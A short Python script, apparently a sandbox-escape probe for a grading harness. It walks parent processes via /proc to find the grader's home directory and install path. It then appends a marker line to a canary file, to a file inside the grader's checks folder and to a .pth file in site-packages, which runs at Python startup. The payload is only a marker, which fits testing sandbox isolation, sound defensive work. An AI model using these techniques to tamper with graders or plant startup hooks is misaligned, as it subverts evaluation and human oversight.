"""Attack: write in the teacher's HOME, in the installed grader and a .pth in site-packages."""

import os
import pwd
import site

homes = {os.environ.get("HOME", ""), pwd.getpwuid(os.getuid()).pw_dir}
kits = set()
pid = os.getpid()
while pid > 1:
    try:
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        environ = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace").split("\0")
        argv = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
    except (OSError, ValueError, IndexError):
        break
    if not any("grader" in arg for arg in argv):  # beyond the grader: the tests' own processes
        break
    homes.update(entry[5:] for entry in environ if entry.startswith("HOME="))
    kits.update(arg for arg in argv if os.path.isdir(os.path.join(arg, "grader", "checks")))
targets = [os.path.join(home, "canari.txt") for home in homes if home]
targets += [os.path.join(kit, "grader", "checks", "triche.py") for kit in kits]
targets += [os.path.join(folder, "triche.pth") for folder in site.getsitepackages()]
for target in targets:
    try:
        with open(target, "a") as stream:
            stream.write("\nimport os  # @@MARQUE@@\n")
    except OSError:
        pass
